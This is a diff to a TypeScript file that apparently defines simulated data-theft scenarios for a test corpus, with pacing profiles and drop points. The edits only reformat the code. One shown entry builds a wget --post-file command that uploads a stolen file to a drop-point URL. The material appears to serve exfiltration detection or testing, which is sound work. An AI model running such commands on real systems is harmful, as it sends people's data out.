@@ -10,7 +10,10 @@ interface Theft {
   readonly name: string
   readonly tool: string
   readonly corpora: Attack['corpora']
-  /** `fast`: one big file, 40 to 80 MB, 0.5 to 1 MB/s. `slow`: small ones at 20 to 100 kB/s with pauses. `bursts`: as fast as the line goes. */
+  /**
+   * `fast`: one big file, 40 to 80 MB, 0.5 to 1 MB/s. `slow`: small ones at 20 to 100 kB/s with pauses. `bursts`: middling ones as fast as
+   * the line goes.
+   */
   readonly pace: 'fast' | 'slow' | 'bursts'
   readonly drop: Drop
   readonly send: (loot: Loot, to: DropPoint) => { readonly command: readonly string[]; readonly input?: string }
@@ -51,7 +54,9 @@ const THEFTS: readonly Theft[] = [
   },
   {
     name: 'wget-post-bursts', tool: 'wget-post-file', corpora: ['test'], pace: 'bursts', drop: 'web',
-    send: ({ file }, { url }) => ({ command: ['wget', '-q', '-t', '1', '-T', '20', '-O', '/dev/null', `--post-file=${file}`, `${url}/in`] }),
+    send: ({ file }, { url }) => ({
+      command: ['wget', '-q', '-t', '1', '-T', '20', '-O', '/dev/null', `--post-file=${file}`, `${url}/in`],
+    }),
   },
   {
     name: 'python-https-fast', tool: 'python-put', corpora: ['test'], pace: 'fast', drop: 'web-tls',
